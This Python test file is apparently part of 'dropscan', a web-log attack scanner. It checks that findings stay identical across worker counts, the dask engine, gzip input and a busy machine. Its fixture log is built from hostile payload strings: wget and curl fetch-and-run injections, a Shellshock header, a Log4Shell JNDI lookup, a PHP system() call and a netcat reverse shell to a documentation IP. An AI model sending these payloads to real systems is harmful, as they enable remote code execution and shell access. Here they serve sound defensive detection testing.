"""Same input, same findings: whatever the machine load, the number of jobs or the engine.

Each run is a fresh ``dropscan scan`` process, as a user starts it, so every worker meets its
first attack line cold and compiles the patterns it needs there (they once compiled inside a
wall-clock budget, and a busy machine lost that line; no clock is read now). The log is half
attack lines, so that every byte range a worker gets starts with attacks, and holds lines that
reach the deterministic bounds (the matching budget, a field cut at MAX_FIELD). It is scanned,
plain and gzip-compressed, with ``--jobs 1``, ``--jobs N`` and ``--engine dask`` (a
LocalCluster of its own), once on a quiet machine and once with every core kept busy by
spinning processes this test starts and kills; all runs must give byte-identical findings,
summaries and exit codes (the ``.gz`` the same as the plain file's, but for the file's name).
Nothing here reads a clock to decide anything.
"""

from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys

import pytest

from conftest import combined_line
from dropscan.detect.decode import MAX_FIELD
from dropscan.engine import default_signatures

# a fresh process whose engine splits even this small file into three byte ranges, and reads
# in chunks of 64 KiB (so that the .gz, decompressed by the parent, goes to the workers in pieces)
PRELUDE = (
    "import dropscan.engine as e, dropscan.sources.files as s; e.POOL_MIN_BYTES = 0; "
    "e.split_ranges = lambda size, *_: s.split_ranges(size, 3, min_part=1); "
    "e.read_chunks = lambda blocks, _size, *a, **k: s.read_chunks(blocks, 1 << 16, *a, **k); "
    "from dropscan.cli import main; main()"
)
# a busy process that ends by itself even if the teardown never runs
BUSY = "import time\nend = time.monotonic() + 900\nwhile time.monotonic() < end:\n    pass\n"
ATTACKS = [
    ("/cgi-bin/x?c=;wget%20http://203.0.113.9/a.sh", "-"),
    ("/", "() { :; }; /bin/bash -c 'curl -s http://198.51.100.7:8080/x|sh'"),
    ("/x?a=1|wg%00et%20http://203.0.113.10/x.sh", "-"),
    ("//${jndi:ldap://198.51.100.9:1389/a}", "-"),
    ("/x.php?c=system('id');", "-"),
    ("/x?c=;nc%20-e%20/bin/sh%20203.0.113.20%204444", "-"),
]


@pytest.fixture(scope="module")
def log(tmp_path_factory):
    sigs = default_signatures()
    unit = " ".join(f";{k} -x http://a" for k in sorted(sigs.keyword_index)) + " "
    soup = (unit * (MAX_FIELD // len(unit) + 1))[: MAX_FIELD - 64]
    lines = []
    for i in range(1200):
        target, ua = ATTACKS[i % len(ATTACKS)]
        lines.append(combined_line(target, ua=ua, client=f"203.0.113.{i % 200 + 1}"))
        lines.append(combined_line(f"/index.html?page={i}"))
        if i == 600:
            lines.append(combined_line("/?" + soup, ua=soup, referer=soup))  # spends the matching budget
            lines.append(combined_line("/?pad=" + "x" * MAX_FIELD + "&c=;wget%20http://h/x"))  # cut at MAX_FIELD
    p = tmp_path_factory.mktemp("load") / "access.log"
    p.write_bytes(b"".join(lines))
    p.with_name("access.log.gz").write_bytes(gzip.compress(p.read_bytes()))
    return p


def run(log, tmp_path, name: str, *args: str) -> tuple[int, str, dict]:
    summary = tmp_path / f"{name}.json"
    p = subprocess.run(
        [sys.executable, "-c", PRELUDE, "scan", str(log), "-f", "jsonl", "--summary", str(summary), *args],
        capture_output=True,
        text=True,
    )
    assert p.returncode in (0, 1), p.stderr
    return p.returncode, p.stdout, json.loads(summary.read_text())


@pytest.fixture()
def busy_cores():
    """Every core kept busy (one spinning process per core, and one more), for the test's duration."""
    procs = [subprocess.Popen([sys.executable, "-c", BUSY]) for _ in range((os.cpu_count() or 1) + 1)]
    yield len(procs)
    for p in procs:
        p.kill()
        p.wait()


ENGINES = {"jobs-1": ("--jobs", "1"), "jobs-n": ("--jobs", str(max(2, os.cpu_count() or 2)))}
ENGINES["dask"] = ("--engine", "dask", "--jobs", "2")


def _runs(log, tmp_path, tag: str) -> dict:
    engines = dict(ENGINES)
    try:
        import distributed  # noqa: F401
    except ImportError:
        engines.pop("dask")
    return {f"{tag}-{name}": run(log, tmp_path, f"{tag}-{name}", *args) for name, args in engines.items()}


@pytest.mark.slow
@pytest.mark.parametrize("name", ["access.log", "access.log.gz"])
def test_the_same_findings_quiet_and_under_load(log, tmp_path, request, name):
    path = log.with_name(name)
    quiet = _runs(path, tmp_path, "quiet")
    request.getfixturevalue("busy_cores")  # from here on every core is busy
    loaded = _runs(path, tmp_path, "loaded")
    runs = {**quiet, **loaded}
    code, stdout, summary = runs["quiet-jobs-1"]
    if path != log:  # the same as the plain file's, but for the file's name
        plain = run(log, tmp_path, "plain", *ENGINES["jobs-1"])
        assert (code, stdout.replace(name, "access.log"), summary["totals"]) == (plain[0], plain[1], plain[2]["totals"])
        assert {**summary["files"][0], "path": None} == {**plain[2]["files"][0], "path": None}
    findings = [json.loads(x) for x in stdout.splitlines()]
    # what the log holds: every attack line, the two bounds said, nothing lost
    assert code == 1 and len(findings) == 1200 + 2
    assert summary["totals"]["unscanned"] == 2 and summary["totals"]["lines"] == 2402
    assert [f["line_no"] for f in findings if f["category"] == "unscanned"] == [1204]
    assert sum("unscanned.match-budget" in f["rule_ids"] for f in findings) == 1
    assert sum(f["rule_ids"] == ["unscanned.field-cut"] for f in findings) == 1
    for name, got in runs.items():
        assert got == runs["quiet-jobs-1"], name
